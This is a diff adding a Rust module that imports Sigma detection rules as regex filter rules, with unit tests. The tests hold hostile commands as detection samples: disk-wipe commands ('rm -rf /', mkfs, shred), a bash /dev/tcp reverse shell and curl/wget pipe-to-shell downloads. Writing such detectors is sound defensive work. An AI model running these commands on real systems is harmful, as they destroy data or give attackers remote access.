@@ -0,0 +1,484 @@
+//! Sigma Rule Import - Community Detections as Filter Rules
+//!
+//! Translates Sigma YAML rules (`--sigma-rules dir/`) into Custom-tier
+//! `[[rule]]` entries. The filter sees raw lines, not parsed events, so
+//! field names are ignored and every value becomes a (case-insensitive)
+//! substring match anywhere in the line.
+//!
+//! Supported: keyword lists, `contains` / `startswith` / `endswith` / `re` /
+//! `cased` / `all` modifiers, and conditions built from selection names,
+//! `and`, `or`, `1 of x*`, `all of x*`, `1 of them`, `all of them`.
+//! Rules using anything else (`not`, parentheses, aggregations, other
+//! modifiers) are skipped and reported rather than approximated.
+
+use crate::error::KernelError;
+use crate::filter::{Priority, RuleAction, RuleDef, Severity, Tier};
+use serde::Deserialize;
+use serde_yaml::{Mapping, Value};
+use std::path::{Path, PathBuf};
+
+/// Max AND-ed terms per clause (clauses expand to every term order)
+const MAX_TERMS: usize = 4;
+
+/// Max OR-ed clauses per rule
+const MAX_CLAUSES: usize = 64;
+
+/// Disjunction of regex alternatives
+type Term = Vec<String>;
+
+/// Conjunction of terms (all must appear in the line, any order)
+type Clause = Vec<Term>;
+
+#[derive(Debug, Deserialize)]
+struct SigmaRule {
+    title: String,
+    #[serde(default)]
+    id: Option<String>,
+    #[serde(default)]
+    status: Option<String>,
+    #[serde(default)]
+    level: Option<String>,
+    #[serde(default)]
+    detection: Option<Mapping>,
+}
+
+/// Result of importing a rule directory
+#[derive(Debug, Default)]
+pub struct SigmaImport {
+    pub rules: Vec<RuleDef>,
+    /// Files or documents that could not be translated, with the reason
+    pub skipped: Vec<(PathBuf, String)>,
+}
+
+/// Import every `.yml` / `.yaml` file under `dir` (recursively)
+pub fn load_dir(dir: &Path) -> Result<SigmaImport, KernelError> {
+    let mut files = Vec::new();
+    collect_files(dir, &mut files)?;
+    files.sort();
+
+    let mut import = SigmaImport::default();
+    for path in files {
+        let content = std::fs::read_to_string(&path)?;
+        for doc in serde_yaml::Deserializer::from_str(&content) {
+            let result = SigmaRule::deserialize(doc)
+                .map_err(|e| e.to_string())
+                .and_then(|rule| translate(&rule, &path));
+            match result {
+                Ok(rule) if import.rules.iter().any(|r| r.id == rule.id) => import
+                    .skipped
+                    .push((path.clone(), format!("duplicate id '{}'", rule.id))),
+                Ok(rule) => import.rules.push(rule),
+                Err(reason) => import.skipped.push((path.clone(), reason)),
+            }
+        }
+    }
+    Ok(import)
+}
+
+fn collect_files(dir: &Path, out: &mut Vec<PathBuf>) -> std::io::Result<()> {
+    for entry in std::fs::read_dir(dir)? {
+        let path = entry?.path();
+        if path.is_dir() {
+            collect_files(&path, out)?;
+        } else if matches!(
+            path.extension().and_then(|e| e.to_str()),
+            Some("yml" | "yaml")
+        ) {
+            out.push(path);
+        }
+    }
+    Ok(())
+}
+
+/// Translate one Sigma rule into a filter rule
+fn translate(rule: &SigmaRule, path: &Path) -> Result<RuleDef, String> {
+    if rule.status.as_deref() == Some("deprecated") {
+        return Err("deprecated".to_string());
+    }
+    let detection = rule.detection.as_ref().ok_or("no detection section")?;
+
+    let conditions = match detection.get("condition") {
+        Some(Value::String(c)) => vec![c.as_str()],
+        // A list of conditions means any of them
+        Some(Value::Sequence(cs)) => cs
+            .iter()
+            .map(|c| c.as_str())
+            .collect::<Option<Vec<_>>>()
+            .ok_or("non-string condition")?,
+        _ => return Err("missing condition".to_string()),
+    };
+
+    let mut clauses = Vec::new();
+    for condition in conditions {
+        clauses.extend(parse_condition(condition, detection)?);
+    }
+    if clauses.len() > MAX_CLAUSES {
+        return Err(format!("more than {} OR-ed clauses", MAX_CLAUSES));
+    }
+    let pattern = clauses
+        .iter()
+        .map(clause_regex)
+        .collect::<Vec<_>>()
+        .join("|");
+    regex::Regex::new(&pattern).map_err(|e| format!("regex: {}", e))?;
+
+    let stem = path.file_stem().and_then(|s| s.to_str()).unwrap_or("rule");
+    Ok(RuleDef {
+        id: format!("sigma:{}", rule.id.as_deref().unwrap_or(stem)),
+        description: Some(rule.title.clone()),
+        pattern: Some(pattern),
+        field: None,
+        tools: Vec::new(),
+        tier: Tier::Custom,
+        enabled: true,
+        severity: match rule.level.as_deref() {
+            Some("informational" | "low") => Severity::Low,
+            Some("high") => Severity::High,
+            Some("critical") => Severity::Critical,
+            _ => Severity::Medium,
+        },
+        action: RuleAction::Analyze,
+        priority: Priority::Normal,
+    })
+}
+
+/// Expand a condition into OR-ed clauses
+fn parse_condition(condition: &str, detection: &Mapping) -> Result<Vec<Clause>, String> {
+    let tokens: Vec<&str> = condition.split_whitespace().collect();
+    if tokens
+        .iter()
+        .any(|t| t.contains(['(', ')', '|']) || t.eq_ignore_ascii_case("not"))
+    {
+        return Err(format!("unsupported condition '{}'", condition));
+    }
+
+    let mut clauses = Vec::new();
+    for or_part in tokens.split(|t| t.eq_ignore_ascii_case("or")) {
+        let mut product = vec![Vec::new()];
+        for item in or_part.split(|t| t.eq_ignore_ascii_case("and")) {
+            product = and_product(&product, &condition_item(item, detection)?);
+        }
+        clauses.extend(product);
+    }
+
+    if clauses.iter().any(|c| c.len() > MAX_TERMS) {
+        return Err(format!("more than {} AND-ed terms", MAX_TERMS));
+    }
+    Ok(clauses)
+}
+
+/// (a | b) and (c | d) -> (a c) | (a d) | (b c) | (b d)
+fn and_product(left: &[Clause], right: &[Clause]) -> Vec<Clause> {
+    left.iter()
+        .flat_map(|l| right.iter().map(move |r| [l.clone(), r.clone()].concat()))
+        .collect()
+}
+
+/// `selection`, `1 of sel*`, `all of them`, ...
+fn condition_item(item: &[&str], detection: &Mapping) -> Result<Vec<Clause>, String> {
+    match item {
+        [name] => selection(name, detection),
+        [quantifier, of, target] if of.eq_ignore_ascii_case("of") => {
+            let names: Vec<&str> = detection
+                .keys()
+                .filter_map(|k| k.as_str())
+                .filter(|k| *k != "condition")
+                .filter(|k| {
+                    if *target == "them" {
+                        !k.starts_with('_')
+                    } else if let Some(prefix) = target.strip_suffix('*') {
+                        k.starts_with(prefix)
+                    } else {
+                        k == target
+                    }
+                })
+                .collect();
+            if names.is_empty() {
+                return Err(format!("no selection matches '{}'", target));
+            }
+
+            let per_name = names
+                .iter()
+                .map(|n| selection(n, detection))
+                .collect::<Result<Vec<_>, _>>()?;
+            match *quantifier {
+                "1" => Ok(per_name.concat()),
+                "all" => Ok(per_name
+                    .iter()
+                    .fold(vec![Vec::new()], |acc, c| and_product(&acc, c))),
+                q => Err(format!("unsupported quantifier '{}'", q)),
+            }
+        }
+        _ => Err(format!("unsupported condition term '{}'", item.join(" "))),
+    }
+}
+
+/// A named detection block as OR-ed clauses
+fn selection(name: &str, detection: &Mapping) -> Result<Vec<Clause>, String> {
+    match detection.get(name) {
+        // Keyword list (any) or list of maps (any map)
+        Some(Value::Sequence(items)) if items.iter().all(|i| i.is_mapping()) => items
+            .iter()
+            .map(|i| map_clause(i.as_mapping().unwrap()))
+            .collect(),
+        Some(Value::Sequence(items)) => Ok(vec![vec![values_term(items, &[])?]]),
+        Some(v @ (Value::String(_) | Value::Number(_))) => {
+            Ok(vec![vec![values_term(std::slice::from_ref(v), &[])?]])
+        }
+        Some(Value::Mapping(map)) => Ok(vec![map_clause(map)?]),
+        _ => Err(format!("unknown selection '{}'", name)),
+    }
+}
+
+/// `field|mod|mod: value(s)` pairs, all of which must match
+fn map_clause(map: &Mapping) -> Result<Clause, String> {
+    let mut clause = Vec::new();
+    for (key, value) in map {
+        let key = key.as_str().ok_or("non-string field")?;
+        let modifiers: Vec<&str> = key.split('|').skip(1).collect();
+        let values = match value {
+            Value::Sequence(vs) => vs.clone(),
+            v => vec![v.clone()],
+        };
+
+        if modifiers.contains(&"all") {
+            for v in values {
+                clause.push(values_term(&[v], &modifiers)?);
+            }
+        } else {
+            clause.push(values_term(&values, &modifiers)?);
+        }
+    }
+    Ok(clause)
+}
+
+/// Values matched with the given modifiers (any value)
+fn values_term(values: &[Value], modifiers: &[&str]) -> Result<Term, String> {
+    for m in modifiers {
+        if !matches!(
+            *m,
+            "contains" | "startswith" | "endswith" | "re" | "cased" | "all" | "i"
+        ) {
+            return Err(format!("unsupported modifier '{}'", m));
+        }
+    }
+    let is_re = modifiers.contains(&"re");
+    let insensitive = if is_re {
+        modifiers.contains(&"i")
+    } else {
+        !modifiers.contains(&"cased")
+    };
+
+    values
+        .iter()
+        .map(|v| {
+            let v = match v {
+                Value::String(s) => s.clone(),
+                Value::Number(n) => n.to_string(),
+                Value::Bool(b) => b.to_string(),
+                _ => return Err("null or nested value".to_string()),
+            };
+            let body = if is_re { v } else { wildcard_regex(&v) };
+            if body.is_empty() {
+                return Err("empty value".to_string());
+            }
+            Ok(if insensitive {
+                format!("(?i:{})", body)
+            } else {
+                format!("(?:{})", body)
+            })
+        })
+        .collect()
+}
+
+/// Sigma wildcards (`*`, `?`, `\` escapes) to a regex body
+fn wildcard_regex(value: &str) -> String {
+    let mut out = String::new();
+    let mut chars = value.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' if matches!(chars.peek(), Some('*' | '?' | '\\')) => {
+                out.push_str(&regex::escape(&chars.next().unwrap().to_string()));
+            }
+            '*' => out.push_str(".*"),
+            '?' => out.push('.'),
+            c => out.push_str(&regex::escape(&c.to_string())),
+        }
+    }
+    // Unanchored match: leading / trailing wildcards are implied
+    out.trim_start_matches(".*")
+        .trim_end_matches(".*")
+        .to_string()
+}
+
+/// All terms present in any order
+fn clause_regex(clause: &Clause) -> String {
+    let groups: Vec<String> = clause.iter().map(|t| t.join("|")).collect();
+    if groups.len() == 1 {
+        return groups[0].clone();
+    }
+    permutations(groups.len())
+        .iter()
+        .map(|order| {
+            order
+                .iter()
+                .map(|&i| format!("(?:{})", groups[i]))
+                .collect::<Vec<_>>()
+                .join(".*")
+        })
+        .collect::<Vec<_>>()
+        .join("|")
+}
+
+fn permutations(n: usize) -> Vec<Vec<usize>> {
+    if n <= 1 {
+        return vec![(0..n).collect()];
+    }
+    let mut out = Vec::new();
+    for rest in permutations(n - 1) {
+        for pos in 0..=rest.len() {
+            let mut p = rest.clone();
+            p.insert(pos, n - 1);
+            out.push(p);
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use regex::Regex;
+    use tempfile::tempdir;
+
+    fn translate_str(yaml: &str) -> Result<RuleDef, String> {
+        let rule: SigmaRule = serde_yaml::from_str(yaml).unwrap();
+        translate(&rule, Path::new("test.yml"))
+    }
+
+    fn matcher(yaml: &str) -> Regex {
+        Regex::new(&translate_str(yaml).unwrap().pattern.unwrap()).unwrap()
+    }
+
+    #[test]
+    fn test_keywords() {
+        let yaml = r#"
+title: Wipe commands
+id: 1234
+level: critical
+detection:
+  keywords:
+    - 'rm -rf /'
+    - 'mkfs.*'
+  condition: keywords
+"#;
+        let rule = translate_str(yaml).unwrap();
+        assert_eq!(rule.id, "sigma:1234");
+        assert_eq!(rule.severity, Severity::Critical);
+        assert_eq!(rule.description.as_deref(), Some("Wipe commands"));
+
+        let re = matcher(yaml);
+        assert!(re.is_match("sudo RM -RF / --no-preserve-root"));
+        assert!(re.is_match("mkfs.ext4 /dev/sda1"));
+        assert!(!re.is_match("ls -la"));
+    }
+
+    #[test]
+    fn test_field_and_all_any_order() {
+        let re = matcher(
+            r#"
+title: Reverse shell
+detection:
+  selection:
+    Image|endswith: '/bash'
+    CommandLine|contains|all:
+      - '/dev/tcp/'
+      - '-i'
+  condition: selection
+"#,
+        );
+        assert!(re.is_match("/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
+        assert!(re.is_match("exec 5<>/dev/tcp/x/80; /usr/bin/bash -i"));
+        assert!(!re.is_match("/bin/bash -i"));
+    }
+
+    #[test]
+    fn test_one_of_and_regex() {
+        let re = matcher(
+            r#"
+title: Curl pipe shell
+detection:
+  sel_curl:
+    CommandLine|re: 'curl\s+\S+\s*\|\s*sh'
+  sel_wget:
+    CommandLine|contains|cased: 'wget -O- '
+  condition: 1 of sel_*
+"#,
+        );
+        assert!(re.is_match("curl http://x/i.sh | sh"));
+        assert!(re.is_match("wget -O- http://x/i.sh"));
+        assert!(!re.is_match("WGET -O- http://x/i.sh")); // cased
+    }
+
+    #[test]
+    fn test_unsupported_is_skipped() {
+        let not = r#"
+title: Filtered
+detection:
+  selection: { CommandLine|contains: 'sudo' }
+  filter: { User: 'root' }
+  condition: selection and not filter
+"#;
+        assert!(translate_str(not)
+            .unwrap_err()
+            .contains("unsupported condition"));
+
+        let b64 = r#"
+title: Encoded
+detection:
+  selection: { CommandLine|base64offset|contains: 'bash' }
+  condition: selection
+"#;
+        assert!(translate_str(b64).unwrap_err().contains("base64offset"));
+    }
+
+    #[test]
+    fn test_wildcards() {
+        assert_eq!(wildcard_regex("*evil*.exe"), r"evil.*\.exe");
+        assert_eq!(wildcard_regex(r"a\*b?c"), r"a\*b.c");
+    }
+
+    #[test]
+    fn test_load_dir() {
+        let dir = tempdir().unwrap();
+        let nested = dir.path().join("linux");
+        std::fs::create_dir(&nested).unwrap();
+        std::fs::write(
+            nested.join("wipe.yml"),
+            "title: Wipe\nlevel: high\ndetection:\n  kw: ['shred -u']\n  condition: kw\n",
+        )
+        .unwrap();
+        std::fs::write(
+            dir.path().join("agg.yaml"),
+            "title: Agg\ndetection:\n  sel: {a: b}\n  condition: sel | count() > 5\n",
+        )
+        .unwrap();
+        std::fs::write(dir.path().join("notes.txt"), "ignored").unwrap();
+
+        let import = load_dir(dir.path()).unwrap();
+        assert_eq!(import.rules.len(), 1);
+        assert_eq!(import.rules[0].id, "sigma:wipe");
+        assert_eq!(import.skipped.len(), 1);
+
+        let config = crate::filter::FilterConfig {
+            rule: import.rules,
+            ..Default::default()
+        };
+        assert!(config.validate().is_ok());
+        let filter = crate::filter::Filter::new(&config).unwrap();
+        assert_eq!(
+            filter.check("shred -u secrets.db").map(|r| r.name.as_str()),
+            Some("sigma:wipe")
+        );
+    }
+}